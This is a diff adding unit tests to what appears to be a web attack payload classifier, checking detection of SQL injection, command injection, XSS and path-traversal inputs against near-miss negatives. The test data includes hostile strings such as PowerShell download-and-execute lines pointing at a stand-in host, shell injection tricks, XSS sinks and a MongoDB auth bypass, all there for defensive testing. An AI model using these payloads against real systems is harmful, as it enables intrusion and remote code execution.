@@ -208,3 +208,58 @@ def test_a_backup_restored_from_a_disk_share_is_sqli() -> None:
     assert _query("sqli", "RESTORE LOG [T] FROM DISK = '\\\\10.0.0.1\\f'")
     assert _query("sqli", "RESTORE HEADERONLY FROM DISK = 'c:\\x.bak'")
     assert not _query("sqli", "restore the database from disk images")
+
+
+@pytest.mark.parametrize(
+    "path", ["/web.config", "/wp-config.php", "/blog/wp-config.php.bak", "/php.ini"]
+)
+def test_server_configuration_asked_for_by_the_request_path_is_traversal(path: str) -> None:
+    assert "path-traversal" in payload_kinds(path=path)
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/docs/php.ini-guide", "/web.configuration", "/shop/web.config.html", "/wp-content/a.png"],
+)
+def test_paths_near_server_configuration_are_not_traversal(path: str) -> None:
+    assert "path-traversal" not in payload_kinds(path=path)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ";x=id;$x",
+        "; ${PATH:0:1}bin${PATH:0:1}ls",
+        "; iex(New-Object Net.WebClient).DownloadString('http://a.example/x')",
+        "(New-Object System.Net.WebClient).DownloadFile('http://a.example/x','x.exe')",
+    ],
+)
+def test_unquoted_variables_substrings_and_downloads_run_are_cmdi(value: str) -> None:
+    assert _query("cmdi", value)
+
+
+@pytest.mark.parametrize("value", ["a=b;$a", "x=5; ${x}", "download string tips", "new object"])
+def test_near_misses_of_variables_and_downloads_are_not_cmdi(value: str) -> None:
+    assert not _query("cmdi", value)
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["location=name", "x=1;top.location=location.hash.slice(1)", "Reflect.apply(alert,null,[1])"],
+)
+def test_the_page_sent_where_its_name_says_or_a_sink_applied_is_xss(value: str) -> None:
+    assert _query("xss", value)
+
+
+@pytest.mark.parametrize(
+    "value", ["my location=name tag", "location = home", "reflect.apply the theme"]
+)
+def test_near_misses_of_location_and_reflect_are_not_xss(value: str) -> None:
+    assert not _query("xss", value)
+
+
+def test_mongodb_operators_as_quoted_json_keys_and_column_lists_are_sqli() -> None:
+    assert _query("sqli", '{"username": {"$ne": null}}')
+    assert _query("sqli", "ORDER BY 1,2,3")
+    assert not _query("sqli", "use $ne in mongo")
+    assert not _query("sqli", "sort: order by 1, 2 items")
